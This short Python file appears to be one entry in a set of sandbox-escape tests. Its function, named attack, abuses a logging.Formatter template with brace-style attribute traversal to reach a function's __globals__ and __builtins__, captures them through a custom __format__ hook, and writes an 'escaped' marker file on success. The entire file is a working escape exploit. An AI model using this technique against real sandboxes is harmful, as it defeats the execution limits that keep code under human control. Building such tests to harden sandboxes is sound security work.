"""Class: format strings. Source: own find. Escape: a formatter's template walks to globals."""

import logging


def attack(model, tokenizer, address):
    got = []

    class Taker:
        def __format__(self, spec):
            got.append(spec)
            return ""

    made = logging.makeLogRecord({"msg": attack, "taker": Taker()})
    formatter = logging.Formatter(
        "{taker:{msg.__globals__[__builtins__]}}", style="{", validate=False
    )
    formatter.format(made)
    if got:
        open("escaped", "w").close()
    return got
